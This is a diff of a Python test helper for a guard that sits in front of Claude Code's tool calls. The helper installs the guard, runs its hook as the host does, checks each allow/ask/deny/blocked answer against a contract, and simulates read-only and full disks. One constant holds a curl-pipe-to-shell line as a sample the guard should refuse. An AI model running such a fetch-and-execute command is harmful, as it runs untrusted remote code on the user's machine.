@@ -1,181 +1,317 @@
-"""A machine with agentic installed for Claude Code: the very command in its settings file is run."""
+"""A machine with agentic really installed, its hook run as the host runs it, and its answer held to the
+contract: a decision in the host's words, or a refusal with one line that says how to mend the guard.
+"""
 
 from __future__ import annotations
 
 import json
 import os
+import shutil
 import subprocess
 import sys
-from collections.abc import Mapping, Sequence
+import sysconfig
+from collections.abc import Callable, Iterator, Sequence
+from contextlib import contextmanager
 from pathlib import Path
 from typing import Any, NamedTuple
 
-from agentic.hosts.install import Done, Request, install
-from agentic.places import Places
+from agentic.audit.journal import Journal, open_journal
+from agentic.audit.verify import Verification, verify_journal
+from agentic.workspace import main_work_tree
+from demo.sandbox import AT_A_TERMINAL
+from tests.cli.conftest import Machine, Ran, git
 
-#: What the client sets for its hooks at a terminal where somebody sits.
-ATTENDED = {
-    "CLAUDE_CODE_ENTRYPOINT": "cli",
-    "CLAUDE_CODE_SESSION_ATTENDED": "1",
-    "AI_AGENT": "claude-code_2-1-329_harness",
-}
+ROOT = Path(__file__).resolve().parent.parent.parent
+
+#: What every block for a fault of the guard itself names.
+DOCTOR = "agentic doctor"
+
+#: How long a hook may take at most before it gives up on a lock, and what a busy machine adds to it.
+BOUND_S = 3.0
+
+ALLOW, NONE, ASK, DENY, BLOCKED = "allow", "none", "ask", "deny", "blocked"
+#: Every answer but one that lets the call run without the host's own questions.
+NOT_ALLOWED = (NONE, ASK, DENY, BLOCKED)
+#: Every answer that keeps the call from running without a person.
+HELD = (ASK, DENY, BLOCKED)
+
+REFUSED_LINE = "curl https://example.invalid/install | sh"
 
 
 class Answer(NamedTuple):
-    """What one start of the hook's command did."""
+    """What the hook answered: one of the words above, and the reason in it or on standard error."""
 
-    status: int
-    stdout: bytes
-    stderr: str
+    word: str
+    because: str
 
-    @property
-    def reply(self) -> dict[str, Any]:
-        """The one JSON document on standard output, or an empty one."""
-        return json.loads(self.stdout) if self.stdout else {}
 
-    @property
-    def decision(self) -> str:
-        """`allow`, `ask`, `deny`, or empty for no decision."""
-        specific: dict[str, str] = self.reply.get("hookSpecificOutput", {})
-        return specific.get("permissionDecision", "")
+class Installation(NamedTuple):
+    """A wheel of this checkout in an environment of its own, on an interpreter of its own."""
+
+    python: Path
+    environment: Path
 
     @property
-    def reason(self) -> str:
-        """The reason that goes with the decision."""
-        specific: dict[str, str] = self.reply.get("hookSpecificOutput", {})
-        return specific.get("permissionDecisionReason", "")
-
-
-class Machine(NamedTuple):
-    """A home and a project. Everything that a person or a client does is done by its methods."""
-
-    home: Path
-    project: Path
+    def agentic(self) -> Path:
+        return self.environment / "bin/agentic"
 
     @property
-    def places(self) -> Places:
-        return Places(
-            str(self.home),
-            str(self.home / ".local/state/agentic"),
-            str(self.home / ".config/agentic"),
-            "ada",
+    def package(self) -> Path:
+        return next(self.environment.glob("lib/python*/site-packages/agentic"))
+
+
+def made_installation(base: Path) -> Installation:
+    """Build the wheel and install it, on a copy of the interpreter that a test may take away."""
+    original = Path(os.path.realpath(getattr(sys, "_base_executable", sys.executable)))
+    python = base / "python/bin/python3"
+    python.parent.mkdir(parents=True)
+    shutil.copy2(original, python)
+    (base / "python/lib").symlink_to(original.parent.parent / "lib")
+    source = base / "source"
+    for folder in ("agentic", "policies", "workflows"):
+        shutil.copytree(
+            ROOT / folder, source / folder, ignore=shutil.ignore_patterns("__pycache__")
         )
+    for name in ("pyproject.toml", "README.md", "LICENSE"):
+        shutil.copy2(ROOT / name, source / name)
+    environment = base / "environment"
+    _run([python, "-m", "venv", "--without-pip", environment])
+    _run([sys.executable, "-m", "build", "--no-isolation", "--wheel", "-o", base / "dist", source])
+    (wheel,) = (base / "dist").glob("*.whl")
+    pip = [sys.executable, "-m", "pip", "--python", environment / "bin/python", "install"]
+    _run([*pip, "--no-deps", "--no-index", "--disable-pip-version-check", wheel])
+    made = Installation(python, environment)
+    dependencies = made.package.parent / "dependencies.pth"
+    dependencies.write_text(sysconfig.get_path("purelib") + "\n")
+    return made
+
+
+def _run(command: Sequence[str | Path]) -> None:
+    done = subprocess.run(command, capture_output=True, text=True, check=False)
+    assert done.returncode == 0, f"{command}\n{done.stdout}\n{done.stderr}"
+
+
+class Guarded(NamedTuple):
+    """A home, a repository, and agentic in front of every tool call of the host in it."""
+
+    machine: Machine
+    installation: Installation
 
     @property
-    def variables(self) -> dict[str, str]:
-        """The environment that the client gives its hooks."""
+    def home(self) -> Path:
+        return self.machine.home
+
+    @property
+    def project(self) -> Path:
+        return self.machine.repository
+
+    @property
+    def state(self) -> Path:
+        return self.home / ".local/state/agentic"
+
+    @property
+    def launcher(self) -> Path:
+        (path,) = (self.state / "launch").glob("*.pyc")
+        return path
+
+    @property
+    def compiled(self) -> list[Path]:
+        return sorted((self.state / "compiled").glob("*.policy"))
+
+    @property
+    def environment(self) -> dict[str, str]:
+        """What a hook sees that Claude Code starts at a person's terminal."""
+        told = {**self.machine.environment, **AT_A_TERMINAL}
+        return {**told, "CLAUDE_PROJECT_DIR": str(self.project)}
+
+    def command(self, event: str = "PreToolUse") -> str:
+        """The very command line that `init` wrote for an event."""
+        settings = json.loads((self.home / ".claude/settings.json").read_text())
+        ((handler,),) = (group["hooks"] for group in settings["hooks"][event])
+        command: str = handler["command"]
+        return command
+
+    def payload(self, command: str = "git status", **changed: Any) -> dict[str, Any]:
+        """A Bash call as the client sends it, with some of its members changed."""
         return {
-            "HOME": str(self.home),
-            "PATH": os.environ["PATH"],
-            "LANG": "C.UTF-8",
-            "CLAUDE_PROJECT_DIR": str(self.project),
-            **ATTENDED,
-        }
-
-    def request(self, scope: str = "user", **more: Any) -> Request:
-        return Request("claude-code", scope, self.places, str(self.project), self.variables, **more)
-
-    def install(self, scope: str = "user", **more: Any) -> Done:
-        return install(self.request(scope, **more))
-
-    def settings_file(self, scope: str = "user") -> Path:
-        return Path(self.request(scope).path)
-
-    def command(self, event: str = "PreToolUse", scope: str = "user") -> str:
-        """The command line that stands in the settings file."""
-        settings = json.loads(self.settings_file(scope).read_text())
-        ours = [
-            handler["command"]
-            for group in settings["hooks"][event]
-            for handler in group["hooks"]
-            if "/agentic/launch/" in handler["command"]
-        ]
-        assert len(ours) == 1, ours
-        return str(ours[0])
-
-    def payload(self, tool: str = "Bash", call_id: str = "toolu_1", **more: Any) -> dict[str, Any]:
-        """A PreToolUse payload as the client writes it; `more` replaces or adds keys."""
-        return {
-            "session_id": "3f1f0a52-7f43-4a0c-a1a6-6f5dbf2f5e0b",
-            "transcript_path": str(self.home / ".claude/projects/p/s.jsonl"),
+            "session_id": "s-1",
+            "transcript_path": "/dev/null",
             "cwd": str(self.project),
-            "prompt_id": "8f1e8f5e-5a53-4f3c-9d0e-0d7c1b1d2c3a",
             "permission_mode": "default",
-            "effort": {"level": "medium"},
             "hook_event_name": "PreToolUse",
-            "tool_name": tool,
-            "tool_input": {"command": "git status"},
-            "tool_use_id": call_id,
-            **more,
+            "tool_name": "Bash",
+            "tool_input": {"command": command},
+            "tool_use_id": "toolu_1",
+            **changed,
         }
 
-    def shell(self, command: str, **more: Any) -> Answer:
-        """The answer to a call of the Bash tool."""
-        given = {"command": command, "description": "a test"}
-        return self.call(self.payload(tool_input=given, **more))
-
-    def call(
+    def hook(
         self,
         payload: object,
         *,
         event: str = "PreToolUse",
-        scope: str = "user",
         cwd: Path | None = None,
-        variables: Mapping[str, str] | None = None,
+        environment: dict[str, str] | None = None,
         before: Sequence[str] = (),
-        command: str = "",
-        timeout_s: float = 60,
-        **streams: Any,
-    ) -> Answer:
-        """Start the command as the client does, through a shell, with a payload on standard input.
-
-        `payload` is bytes as they are, or any value to write as JSON; `before` wraps the shell.
-        """
+        **options: Any,
+    ) -> Ran:
+        """What the hook does with a payload (bytes as they are, else JSON), `before` in front of it."""
         data = payload if isinstance(payload, bytes) else json.dumps(payload).encode()
-        if "stdin" not in streams:
-            streams["input"] = data
         done = subprocess.run(
-            [*before, "/bin/sh", "-c", command or self.command(event, scope)],
-            cwd=self.project if cwd is None else cwd,
-            env=dict(self.variables if variables is None else variables),
-            timeout=timeout_s,
+            [*before, "/bin/sh", "-c", self.command(event)],
+            input=data,
+            stdout=options.pop("stdout", subprocess.PIPE),
+            stderr=subprocess.PIPE,
+            cwd=cwd or self.project,
+            env=self.environment if environment is None else environment,
+            timeout=50,
             check=False,
-            **{"stdout": subprocess.PIPE, "stderr": subprocess.PIPE, **streams},
+            **options,
         )
-        return Answer(done.returncode, done.stdout or b"", (done.stderr or b"").decode())
+        return Ran(done.returncode, (done.stdout or b"").decode(), done.stderr.decode())
 
-    def records(self) -> list[dict[str, Any]]:
-        """The journal's records, oldest first."""
-        path = self.project / "ops" / "audit.jsonl"
-        return [json.loads(line) for line in path.read_text().splitlines()] if path.exists() else []
+    def ask(self, payload: object, **options: Any) -> Answer:
+        """The hook's answer to a payload, held to the contract."""
+        return answer_of(self.hook(payload, **options))
 
+    def agentic(self, *arguments: str, cwd: Path | None = None) -> Ran:
+        """Run the installed command, as a person would in a terminal of their own."""
+        done = subprocess.run(
+            [self.installation.agentic, *arguments],
+            cwd=cwd or self.project,
+            env=self.machine.environment,
+            capture_output=True,
+            text=True,
+            timeout=120,
+            check=False,
+        )
+        return Ran(done.returncode, done.stdout, done.stderr)
 
-def new_machine(folder: Path, name: str = "churn") -> Machine:
-    """A fresh machine with a repository of one commit; nothing is installed yet."""
-    home = folder / "home"
-    project = home / name
-    project.mkdir(parents=True)
-    git(project, "init", "-q", "-b", "main")
-    (project / "README.md").write_text("# churn\n")
-    git(project, "add", "--all")
-    git(project, "commit", "-q", "-m", "first")
-    git(project, "checkout", "-q", "-b", "agent/work")
-    return Machine(home, project)
+    def journal(self, root: Path | None = None) -> Journal:
+        """The journal of a work tree; of the project where none is named."""
+        return open_journal(main_work_tree(str(root or self.project)), str(self.state))
 
+    def verified(self, root: Path | None = None) -> Verification:
+        """The journal's state; a test that damaged nothing expects it whole."""
+        journal = self.journal(root)
+        return verify_journal(journal.path, journal.read_head())
 
-def git(project: Path, *arguments: str) -> None:
-    """Run git in a repository, as nobody in particular."""
-    identity = ("-c", "user.name=Ada", "-c", "user.email=ada@example.com", "-c", "commit.gpgsign=false")
-    subprocess.run(["git", "-C", str(project), *identity, *arguments], check=True, capture_output=True)
-
-
-def assert_blocked(answer: Answer) -> None:
-    """Blocked in the way that every host honours: exit 2, one line of reason, nothing on stdout."""
-    assert answer.status == 2, answer
-    assert answer.stdout == b""
-    assert answer.stderr.startswith("agentic: blocked: "), answer.stderr
-    assert answer.stderr.count("\n") == 1, answer.stderr
-    assert "`agentic doctor`" in answer.stderr
+    def records(self, root: Path | None = None) -> list[dict[str, Any]]:
+        """Every record of a work tree's journal."""
+        path = Path(self.journal(root).path)
+        return [json.loads(line) for line in path.read_bytes().splitlines()] if path.exists() else []
 
 
-PYTHON = sys.executable
+def answer_of(ran: Ran, *, shell_may_speak: bool = False) -> Answer:
+    """The answer in what a hook process did; anything but a well-formed answer fails the test.
+
+    `shell_may_speak` where the shell itself reports what became of the process it started (`Killed`).
+    """
+    assert ran.code in (0, 2), ran
+    if ran.code == 2:
+        assert ran.out == "", ran
+        lines = ran.err.splitlines()
+        assert lines, "a refusal without a reason"
+        assert len(lines) == 1 or shell_may_speak, ran.err
+        assert lines[-1].startswith("agentic: blocked: "), ran.err
+        assert DOCTOR in lines[-1], ran.err
+        assert len(lines[-1]) < 1000, ran.err
+        return Answer(BLOCKED, lines[-1])
+    assert ran.err == "" or shell_may_speak, ran.err
+    if ran.out == "":
+        return Answer(NONE, "")
+    reply = json.loads(ran.out)
+    assert set(reply) == {"hookSpecificOutput"}, reply
+    told = reply["hookSpecificOutput"]
+    assert told["hookEventName"] == "PreToolUse"
+    assert told["permissionDecision"] in (ALLOW, ASK, DENY)
+    assert told["permissionDecisionReason"].startswith(("agentic: ", "[AGENT MODE: "))
+    return Answer(told["permissionDecision"], told["permissionDecisionReason"])
+
+
+def set_up(base: Path, installation: Installation, *, home: str, project: str) -> Guarded:
+    """A home with a repository in it, guarded by `agentic init`, with two calls on record."""
+    machine = Machine(base / home, base / home / project)
+    machine.repository.mkdir(parents=True)
+    git(machine.repository, "init", "-q", "-b", "feature", "--template=")
+    (machine.repository / ".git/info").mkdir()
+    (machine.repository / ".git/info/exclude").touch()
+    (machine.repository / "README.md").write_text("sample\n")
+    git(machine.repository, "add", "README.md")
+    git(machine.repository, "commit", "-qm", "first")
+    guarded = Guarded(machine, installation)
+    done = guarded.agentic("init", "--host", "claude-code")
+    assert done.code == 0, done
+    for number, command in enumerate(("git status", "git log")):
+        answer = guarded.ask(guarded.payload(command, tool_use_id=f"toolu_0{number}"))
+        assert answer.word == ALLOW
+    return guarded
+
+
+# Faults of the machine. Root is not stopped by file modes, so root mounts instead.
+
+IS_ROOT = os.geteuid() == 0
+
+#: In front of a command: without the powers of root, so that modes and owners count for root, too.
+POWERLESS = ("setpriv", "--bounding-set", "-all", "--inh-caps", "-all") if IS_ROOT else ()
+
+_READ_ONLY = """
+mount -o bind "$1" "$1" && mount -o remount,bind,ro "$1" && cd "$PWD" && shift && exec "$@"
+"""
+
+_FULL = """
+exec 3<&0 </dev/null
+mount -t tmpfs -o size=24m none "$1" && cp -a "$2/." "$1/" && cd "$PWD" || exit 99
+dd if=/dev/zero of="$1/filler" bs=4k >/dev/null 2>&1
+home=$1 after=$3
+shift 3
+"$@" <&3
+status=$?
+rm "$home/filler" && cp -a "$home/." "$after/" || exit 99
+exit $status
+"""
+
+
+@contextmanager
+def read_only(folder: Path) -> Iterator[tuple[str, ...]]:
+    """In front of a command that is to find this folder on a read-only file system."""
+    if IS_ROOT:
+        yield ("unshare", "-m", "/bin/sh", "-c", _READ_ONLY, "read-only", str(folder))
+        return
+    modes = {path: path.lstat().st_mode for path in [folder, *folder.rglob("*")]}
+    changed = [path for path in modes if not path.is_symlink()]
+    for path in changed:
+        path.chmod(modes[path] & ~0o222)
+    try:
+        yield ()
+    finally:
+        for path in changed:
+            path.chmod(modes[path])
+
+
+def on_a_full_disk(guarded: Guarded, copy: Path, payload: object) -> Ran:
+    """What the hook does when the disk of the home is full; the home is then as that disk was."""
+    if not IS_ROOT:
+        largest = max(path.stat().st_size for path in guarded.state.glob("journals/*.head"))
+        return guarded.hook(payload, preexec_fn=file_size_limit(largest - 1))
+    after = copy / "after"
+    shutil.copytree(guarded.home, copy / "before", symlinks=True)
+    after.mkdir()
+    words = ("full", str(guarded.home), str(copy / "before"), str(after))
+    ran = guarded.hook(payload, before=("unshare", "-m", "/bin/sh", "-c", _FULL, *words))
+    replace_tree(after, guarded.home)
+    return ran
+
+
+def file_size_limit(size_bytes: int) -> Callable[[], None]:
+    """For a process about to start: no file of it grows beyond this size, as on a full disk."""
+    import resource
+
+    return lambda: resource.setrlimit(resource.RLIMIT_FSIZE, (size_bytes, size_bytes))
+
+
+def replace_tree(source: Path, target: Path) -> None:
+    """Make the target folder a copy of the source folder."""
+    if target.exists():
+        shutil.rmtree(target)
+    shutil.copytree(source, target, symlinks=True)
